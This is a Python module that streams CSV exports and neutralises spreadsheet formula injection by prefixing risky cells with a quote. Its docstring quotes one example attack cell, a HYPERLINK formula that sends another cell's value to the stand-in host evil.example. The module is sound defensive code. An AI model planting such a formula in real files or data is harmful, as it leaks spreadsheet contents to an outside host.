"""CSV files organisers open in a spreadsheet: no cell may run as a formula.

Names, comments and even email addresses come from the public. A cell such as
`=HYPERLINK("https://evil.example?"&A2, "Click")` would run when an organiser opens the export
(OWASP "CSV injection"), so text starting with a formula character gets a leading quote.
"""

import csv
import io
import itertools
from collections.abc import Iterable, Iterator
from datetime import datetime
from typing import Any

# = + - @ start formulas; tab and carriage return can too, after a spreadsheet trims them.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> str:
    """A value as CSV cell text that a spreadsheet shows as text, never runs."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def csv_lines(header: Iterable[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV text of a header and rows, one line at a time (streams; memory stays flat)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in itertools.chain([header], rows):
        writer.writerow([neutralise(cell) for cell in row])
        yield buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
